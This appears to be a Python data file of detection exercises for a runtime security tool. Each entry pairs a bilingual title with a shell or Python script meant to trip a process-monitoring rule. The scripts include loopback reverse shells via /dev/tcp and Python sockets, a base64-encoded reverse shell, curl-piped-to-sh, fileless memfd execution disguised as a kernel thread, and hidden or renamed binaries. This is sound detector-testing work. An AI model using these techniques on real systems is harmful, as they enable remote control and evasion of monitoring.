"""Exercises: how programs are started, brought and made. Values only; a stage carries them out."""

from __future__ import annotations

from periderm.model.exercise import Exercise, Variant
from periderm.model.text import Text

EXERCISES: tuple[Exercise, ...] = (
    Exercise(
        id="EXE-001",
        title=Text("Open a shell by exec with a terminal", "通过 exec 打开带终端的 shell"),
        detectors=("RUN-001",),
        behaviours=(1,),
        session=True,
        tty=True,
        script="id; exit 0",
    ),
    Exercise(
        id="EXE-002",
        title=Text("Start a shell from a server", "由服务器启动 shell"),
        detectors=("RUN-002",),
        behaviours=(2,),
        script="id >/dev/null",
    ),
    Exercise(
        id="EXE-002-COPY",
        title=Text("Start a copy of a shell under another name", "以其他名称启动 shell 副本"),
        detectors=("RUN-002", "RUN-005"),
        behaviours=(2, 5),
        variant=Variant.RENAMED,
        script='cp "$(command -v dash || command -v sh)" /tmp/.svc && /tmp/.svc -c "id >/dev/null"; rm -f /tmp/.svc',
    ),
    Exercise(
        id="EXE-002-LOADER",
        title=Text("Start a shell through the dynamic loader", "经动态链接器启动 shell"),
        detectors=("RUN-002",),
        behaviours=(2,),
        variant=Variant.LOADER,
        script='for l in /lib64/ld-linux-x86-64.so.2 /lib/ld-linux-aarch64.so.1; do [ -e $l ] && exec $l "$(command -v dash || command -v sh)" -c "id >/dev/null"; done',
    ),
    Exercise(
        id="EXE-003",
        title=Text("Connect a shell to the network", "将 shell 连接到网络"),
        detectors=("RUN-003",),
        behaviours=(3,),
        language="python",
        variant=Variant.INTERPRETER,
        script=r"""import os, socket, subprocess
server = socket.create_server(("127.0.0.1", 0))
child = os.fork()
if child == 0:
    s = socket.create_connection(server.getsockname())
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    os.execv("/bin/sh", ["sh", "-i"])
peer, _ = server.accept()
peer.sendall(b"id\nexit\n")
peer.settimeout(2)
try:
    while peer.recv(4096):
        pass
except OSError:
    pass
os.waitpid(child, 0)
""",
    ),
    Exercise(
        id="EXE-003-BASH",
        title=Text("Connect bash by its own network files", "利用 bash 网络文件建立连接"),
        detectors=("RUN-003", "RUN-004"),
        behaviours=(3, 4),
        needs=("bash",),
        script=r"""python3 -c 'import socket,time
s=socket.create_server(("127.0.0.1",45454)); s.settimeout(4)
c,_=s.accept(); c.sendall(b"exit\n"); time.sleep(1)' &
sleep 0.5
timeout 3 bash -c 'bash -i >& /dev/tcp/127.0.0.1/45454 0>&1'
wait
""",
    ),
    Exercise(
        id="EXE-004",
        title=Text("Run a shell for the network in one line", "单行命令为网络提供 shell"),
        detectors=("RUN-004", "RUN-003"),
        behaviours=(4,),
        variant=Variant.INTERPRETER,
        script='timeout 2 python3 -c \'import socket,subprocess,os;s=socket.socket();s.settimeout(1);s.connect_ex(("127.0.0.1",9));os.dup2(s.fileno(),0);subprocess.call(["/bin/true","-i"])\' ; true',
    ),
    Exercise(
        id="EXE-004-ENCODED",
        title=Text("Run the same line from base64", "以 base64 形式运行同一命令"),
        detectors=("RUN-004", "RUN-101"),
        behaviours=(4, 46),
        variant=Variant.ENCODED,
        needs=("bash", "base64"),
        script=r"""L=$(printf 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' | base64 -w0)
timeout 2 sh -c "echo $L | base64 -d | bash"; true
""",
    ),
    Exercise(
        id="EXE-005",
        title=Text("Run a program that the image did not bring", "运行镜像未包含的程序"),
        detectors=("RUN-005", "RUN-008"),
        behaviours=(5, 8),
        script="cp /bin/true /tmp/exercise-drift; /tmp/exercise-drift; rm -f /tmp/exercise-drift",
    ),
    Exercise(
        id="EXE-005-LINK",
        title=Text("Run it through a link", "经链接运行"),
        detectors=("RUN-005",),
        behaviours=(5,),
        variant=Variant.LINK,
        script="cp /bin/true /opt/e5; ln -s /opt/e5 /opt/e5-link; /opt/e5-link; rm -f /opt/e5 /opt/e5-link",
    ),
    Exercise(
        id="EXE-006",
        title=Text("Make a file executable", "将文件设为可执行"),
        detectors=("RUN-006",),
        behaviours=(6,),
        script="cp /bin/true /opt/e6; chmod 644 /opt/e6; chmod 755 /opt/e6; rm -f /opt/e6",
    ),
    Exercise(
        id="EXE-006-CALL",
        title=Text("Make a file executable by a direct call", "直接调用系统调用设为可执行"),
        detectors=("RUN-006",),
        behaviours=(6,),
        language="python",
        variant=Variant.SYSCALL,
        script=r"""import os, shutil
shutil.copyfile("/bin/true", "/opt/e6c")
fd = os.open("/opt/e6c", os.O_RDONLY)
os.fchmod(fd, 0o755)
os.close(fd)
os.unlink("/opt/e6c")
""",
    ),
    Exercise(
        id="EXE-007",
        title=Text("Run a program from memory", "从内存运行程序"),
        detectors=("RUN-007",),
        behaviours=(7,),
        language="python",
        variant=Variant.SYSCALL,
        script=r"""import os
fd = os.memfd_create("exercise", 0)
with open("/bin/true", "rb") as f:
    os.write(fd, f.read())
pid = os.fork()
if pid == 0:
    os.execve(fd, ["[kworker/0:1]"], {})
os.waitpid(pid, 0)
""",
    ),
    Exercise(
        id="EXE-007-PATH",
        title=Text("Run it by its path in /proc", "经 /proc 路径运行"),
        detectors=("RUN-007",),
        behaviours=(7,),
        language="python",
        variant=Variant.LINK,
        script=r"""import os
fd = os.memfd_create("exercise", 0)
with open("/bin/true", "rb") as f:
    os.write(fd, f.read())
pid = os.fork()
if pid == 0:
    os.execv(f"/proc/self/fd/{fd}", ["true"])
os.waitpid(pid, 0)
""",
    ),
    Exercise(
        id="EXE-008",
        title=Text("Run a program from /dev/shm", "从 /dev/shm 运行程序"),
        detectors=("RUN-008",),
        behaviours=(8,),
        # Shared memory is usually mounted without the right to run programs: a script gets round that.
        script="cp /bin/true /dev/shm/e8; /dev/shm/e8; echo : > /dev/shm/e8.sh; sh /dev/shm/e8.sh; rm -f /dev/shm/e8*",
    ),
    Exercise(
        id="EXE-009",
        title=Text("Run a hidden program", "运行隐藏程序"),
        detectors=("RUN-009",),
        behaviours=(9,),
        script="mkdir -p /tmp/.exercise && cp /bin/true /tmp/.exercise/.x && /tmp/.exercise/.x; rm -rf /tmp/.exercise",
    ),
    Exercise(
        id="EXE-045",
        title=Text("Run a package manager", "运行软件包管理器"),
        detectors=("RUN-045",),
        behaviours=(45,),
        needs=("apt-get",),
        script="for p in apt-get apk dnf yum; do command -v $p >/dev/null && { $p --version; timeout 5 $p install -y --help >/dev/null 2>&1; timeout 5 $p update >/dev/null 2>&1; }; done; true",
    ),
    Exercise(
        id="EXE-046",
        title=Text("Fetch a script and pipe it into a shell", "下载脚本并通过管道交给 shell"),
        detectors=("RUN-101", "RUN-046"),
        behaviours=(46,),
        needs=("curl",),
        script="curl -s -m 1 http://127.0.0.1:9/x.sh | sh; true",
    ),
    Exercise(
        id="EXE-046-WGET",
        title=Text("Fetch a file by wget", "使用 wget 下载文件"),
        detectors=("RUN-046",),
        behaviours=(46,),
        needs=("wget",),
        script="wget -q -T 1 -t 1 -O /tmp/e46 http://127.0.0.1:9/x; rm -f /tmp/e46; true",
    ),
    Exercise(
        id="EXE-046-HEX",
        title=Text("Decode a script from hex and run it", "从十六进制解码并运行脚本"),
        detectors=("RUN-101",),
        behaviours=(46,),
        variant=Variant.ENCODED,
        needs=("xxd",),
        script='printf %s 69640a | python3 -c "import sys;print(bytes.fromhex(sys.stdin.read()).decode())" >/dev/null; echo 6964 | xxd -r -p | sh',
    ),
    Exercise(
        id="EXE-047",
        title=Text("Run a compiler", "运行编译器"),
        detectors=("RUN-047",),
        behaviours=(47,),
        needs=("gcc",),
        script='echo "int main(void){return 0;}" > /tmp/e47.c; gcc -c -o /tmp/e47.o /tmp/e47.c; rm -f /tmp/e47.*; true',
    ),
    Exercise(
        id="EXE-055",
        title=Text("Run a network tool while a package is installed", "安装软件包时运行网络工具"),
        detectors=("RUN-055",),
        behaviours=(55,),
        needs=("curl",),
        script=r"""mkdir -p /tmp/e55/npm/bin; cp "$(command -v python3)" /dev/null
cat > /tmp/e55/pip.py <<'X'
import subprocess
subprocess.call(["sh", "-c", "curl -s -m 1 http://127.0.0.1:9/ ; true"])
X
sed -i 's/^    //' /tmp/e55/pip.py; mv /tmp/e55/pip.py /tmp/e55/pip; python3 /tmp/e55/pip install evil; rm -rf /tmp/e55; true
""",
    ),
)
